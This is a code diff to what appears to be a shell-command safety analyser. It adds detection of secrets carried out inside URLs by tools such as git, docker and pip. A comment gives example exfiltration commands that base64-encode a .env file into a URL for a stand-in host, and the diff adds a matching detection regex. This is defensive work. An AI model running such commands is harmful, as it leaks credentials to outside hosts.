@@ -1725,6 +1725,12 @@ class _Walker:
             for f in feeders:
                 f.downstream.append(prog)
             disabled = _disabled_operands(draft[0].argv)
+            if namers and prog in _URL_CONTACTORS:
+                # `git ls-remote "https://h/$(base64 .env)"`, `docker pull "h/$(…):1"`, `pip download
+                # https://h/$(…)`: what those commands print travels to a host inside the URL
+                for vals, made in namers:
+                    if any(_COMPUTED_IN_URL.search(v[:4096]) for v in vals):
+                        self.mark(made, SENT_IN_URL)
             if namers and (len(self.writes) > writes_before or len(self.deletes) > deletes_before or disabled):
                 self.mark_namers(namers, self.writes[writes_before:], self.deletes[deletes_before:], disabled)
             if prog in _OPERAND_PRINTERS and feeders:
@@ -5205,6 +5211,17 @@ _SUBST_TEXT = lazyre.compile(r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`")
 # downstream of a command whose output names a file the line removes, moves away or makes unrunnable
 # (rm, mv SRC, chmod -x); ">" is its counterpart for a file written (mark_namers)
 REMOVED = "<removed>"
+# downstream of commands whose output a program that contacts hosts carries inside a URL or host name
+SENT_IN_URL = "<url>"
+# programs that are not network clients but contact the host their URL or image names (a secret in the
+# URL leaves with the request); curl, wget … are network clients and judged as such
+_URL_CONTACTORS = frozenset({"git", "hg", "svn", "go", "docker", "podman", "nerdctl", "buildah", "skopeo", "crane",
+                             "oras", "helm", "pip", "pip3", "pipx", "uv", "npm", "npx", "pnpm", "yarn", "bun", "gem",
+                             "cargo", "composer", "conda", "mamba", "brew", "apt-get", "apt", "dnf", "yum",
+                             "kubectl", "terraform", "ansible-galaxy", "dotnet", "nuget", "mvn", "gradle"})
+# a computed part inside a URL's host or path (`https://h/$(…)`, `h.tld/$(…)`, `$(…)@h.tld`, `$(…).h.tld`)
+_COMPUTED_IN_URL = lazyre.compile(
+    r"(?i)^(?:[a-z][a-z0-9+.-]*://[^\s]*[$`]|(?:[\w-]+\.)+[a-z]{2,}(?::\d+)?/[^\s]*[$`]|[^\s]*[$`][^\s]*@(?:[\w-]+\.)+[a-z]{2,}|[$`][^\s]*\.(?:[\w-]+\.)*[a-z]{2,}(?::\d+)?(?:/|$))")
 
 # PATH lookups: what they print is where a program lives
 _LOOKUP_PROGRAMS = frozenset({"which", "gwhich", "whereis", "where", "type"})
